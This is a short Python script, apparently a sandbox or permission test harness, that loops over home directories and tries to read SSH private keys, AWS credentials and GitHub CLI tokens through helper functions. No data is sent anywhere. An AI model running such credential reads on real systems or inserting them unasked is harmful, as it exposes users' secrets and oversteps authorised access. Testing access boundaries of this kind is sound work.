import sys

sys.path.insert(0, "/inputs")
from trying import attempt, read, targets
for home in targets()["homes"]:
    for name in (".ssh/id_ed25519", ".ssh/id_rsa", ".aws/credentials", ".config/gh/hosts.yml"):
        attempt(f"{home}/{name}", lambda: read(f"{home}/{name}"))
